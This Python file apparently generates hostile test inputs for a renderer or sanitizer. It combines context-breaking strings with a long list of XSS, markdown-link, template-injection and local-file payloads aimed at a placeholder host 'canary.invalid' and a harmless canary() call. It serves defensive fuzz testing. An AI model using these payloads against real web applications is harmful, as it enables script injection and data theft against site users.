"""Hostile text from a grammar: parts that end a context, parts that would run or be fetched, and disguises."""

from __future__ import annotations

import random

HOST = "canary.invalid"
"""A host to which no page may send a request."""
_BREAKERS = (
    "", "", "\"", "'", "`", "``", "```\n", "~~~\n", "\n\n", "\r\n", "\n# ", "\n- ", "\n> ", "\n    ", "\t", "|",
    "\\|", "\\", "]", ")", "](", "![", "[x]: ", "[^1]: ", "-->", "<!--", "]]>", "<![CDATA[", "</code></pre>",
    "</td></tr></table>", "</a>", "</p>", "</script>", "</style>", "</title>", "</textarea>", "</svg>",
    "</summary></details>", "\\\"", "\"}]}", "{{", "}}", "{%", "${", "&quot;", "&#34;", "&lt;", "&#x3c;", "\u2028",
    "\x00", "\x1b[2J", "\u202e", "\u200b", "\ufeff", "\u3164", "===\n", "---\n", ":--|--:\n", "$$", "*", "_", "**",
    "~~", "<", ">", "&", "%", "%0d%0a", "../", "..\\", "//", "/*", "*/", "--", ";", "=", "\ud800", "1. ", "+ ",
)  # fmt: skip
_SCRIPTS = (
    "<script>canary()</script>", "<ScRiPt >canary()</sCrIpT >", "<script src=//HOST/x.js></script>",
    "<img src=x onerror=canary()>", "<img/src=//HOST/x.png>", "<svg onload=canary()>",
    "<svg><script>canary()</script></svg>", "<svg><animate onbegin=canary()>", "<body onload=canary()>",
    "<iframe srcdoc='<script>parent.canary()</script>'>", "<iframe src=//HOST/>", "<object data=//HOST/>",
    "<embed src=//HOST/>", "<base href=//HOST/>", "<meta http-equiv=refresh content='0;url=//HOST/'>",
    "<link rel=stylesheet href=//HOST/>", "<style>@import '//HOST/';</style>",
    "<style>*{background:url(//HOST/)}</style>", "<details open ontoggle=canary()>",
    "<input autofocus onfocus=canary()>", "<a href=javascript:canary()>x</a>", "<form action=//HOST/><button>",
    "<math><mtext></mtext>", "<template><script>canary()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=canary()>'>", "<video src=//HOST/ onerror=canary()>",
    "<marquee onstart=canary()>", "<xmp><script>canary()</script>", "<!ENTITY x SYSTEM '//HOST/'>",
    "[x](javascript:canary())", "[x](<javascript:canary()>)", "[x](JaVaScRiPt:canary())",
    "[x](data:text/html,<script>canary()</script>)", "[x](vbscript:canary())", "![x](//HOST/x.png)",
    "![x](x \"onerror=canary()\")", "[x]: javascript:canary()", "<javascript:canary()>", "javascript:canary()//",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==", "https://HOST/", "http://HOST", "www.HOST",
    "<https://HOST/>", "a@HOST", "mailto:a@HOST", "<a@HOST>", "ftp://HOST/", "//HOST/x", "\\\\HOST\\x",
    "file:///etc/passwd", " onmouseover=canary() ", " onfocus=canary() autofocus ", " style=background:url(//HOST/) ",
    " srcset=//HOST/x ", " id=__proto__ ", "{{constructor.constructor('canary()')()}}", "{{ 7 * 7 }}",
    "{% include '/etc/passwd' %}", "{# x #}", "${canary()}", "<%= canary() %>", "#{canary()}", "@repo-info-body@",
    "@repo-info-title@", "__proto__", "constructor", "toString", "hasOwnProperty", "[[toc]]", "[TOC]", "[^1]",
    ":smile:", "!!! note", "{: onclick=canary() }", "::: x", "- [ ] x", "| a | b |\n|---|---|\n| c | d |",
    "&lt;script&gt;canary()&lt;/script&gt;", "&#60;img src=x onerror=canary()&#62;",
    "\\u003cscript\\u003ecanary()\\u003c/script\\u003e", "%3Cscript%3Ecanary()%3C/script%3E",
    "＜script＞canary()＜/script＞", "<scr\x00ipt>canary()</script>", "<\u200bscript>canary()</script>",
    "<img\x0csrc=x\x0bonerror=canary()>", "<<script>script>canary()<</script>/script>",
    "<img src=x:x onerror\n=canary()>",
)  # fmt: skip
_WORDS = (
    "FROM", "RUN", "x", "latest", "1.0", "sha256:", "é", "漢", "😀", "ﷺ", "--mount=type=secret", "ENV A=", "a b", "0",
)  # fmt: skip


class Attacks:
    """Texts from the grammar: `(word? breaker* script breaker*)+`, at times repeated or very long."""

    def __init__(self, seed: int) -> None:
        self._chance = random.Random(seed)

    def text(self) -> str:
        """One text."""
        chance = self._chance
        parts = [self._part() for _ in range(chance.choice((1, 1, 1, 2, 3)))]
        whole = "".join(parts)
        return whole * chance.choice((2, 50)) if chance.random() < 0.03 else whole

    def texts(self, most: int) -> list[str]:
        return [self.text() for _ in range(self._chance.randint(1, most))]

    def word(self) -> str:
        """A text without surrogates, line breaks and NULs, for names that JSON objects have."""
        return self.text().encode(errors="ignore").decode().replace("\x00", "")[:300] or "x"

    def choice(self, *values: object) -> object:
        return self._chance.choice(values)

    def _part(self) -> str:
        chance = self._chance
        before, after = (chance.choices(_BREAKERS, k=chance.randint(0, 3)) for _ in range(2))
        word = chance.choice(_WORDS) if chance.random() < 0.5 else ""
        return "".join([word, *before, chance.choice(_SCRIPTS).replace("HOST", HOST), *after])
